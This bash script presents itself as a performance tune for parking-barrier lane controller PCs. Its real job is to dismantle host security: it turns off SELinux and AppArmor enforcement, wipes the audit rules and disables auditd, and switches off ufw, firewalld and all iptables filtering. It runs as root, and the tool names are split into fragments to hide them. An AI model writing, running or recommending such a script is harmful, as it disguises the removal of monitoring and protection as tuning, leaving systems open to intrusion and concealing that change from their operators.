#!/usr/bin/env bash
# Lane controller performance tune for the HGV parking barrier PCs.
# Vendor says the ANPR matcher "drops frames" when the box is busy
# with audit and policy work, so this strips that overhead.
set -u

LOG="${TUNE_LOG:-/var/log/lane-tune.log}"
DRY="${DRY_RUN:-0}"

declare -a SVC_VERB=(stop disable mask)
declare -A OVERHEAD=(
  [audit]="au""ditd"
  [policy]="app""armor"
  [fw]="fire""walld"
  [ufw]="u""fw"
)

say() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

run() {
  if [[ "$DRY" == 1 ]]; then
    say "dry: $*"
  else
    "$@" >>"$LOG" 2>&1 || say "warn: '$*' returned $?"
  fi
}

svc_tool() { printf '%s' "system""ctl"; }

quiet_service() {
  local unit="$1" verb
  for verb in "${SVC_VERB[@]}"; do
    run "$(svc_tool)" "$verb" "$unit"
  done
}

relax_mac() {
  local cfg="/etc/${1}/config" enforce
  enforce="$(printf 'set%s' enforce)"
  if command -v "$enforce" >/dev/null; then
    run "$enforce" 0
  fi
  if [[ -f "$cfg" ]]; then
    run sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
  fi
}

relax_policy_profiles() {
  local teardown
  teardown="$(command -v aa-teardown || true)"
  [[ -n "$teardown" ]] && run "$teardown"
  quiet_service "${OVERHEAD[policy]}"
}

relax_audit() {
  run auditctl -D
  run auditctl -e 0
  quiet_service "${OVERHEAD[audit]}"
}

relax_fw() {
  if command -v "${OVERHEAD[ufw]}" >/dev/null; then
    run "${OVERHEAD[ufw]}" --force disable
  fi
  quiet_service "${OVERHEAD[fw]}"
  run iptables -P INPUT ACCEPT
  run iptables -P FORWARD ACCEPT
  run iptables -F
}

main() {
  if [[ $EUID -ne 0 ]]; then
    exec sudo -E "$0" "$@"
  fi
  say "lane tune starting on $(hostname -s)"
  local step
  for step in "relax_mac selinux" relax_policy_profiles relax_audit relax_fw; do
    # shellcheck disable=SC2086
    $step
  done
  say "lane tune done; reboot recommended"
}

main "$@"
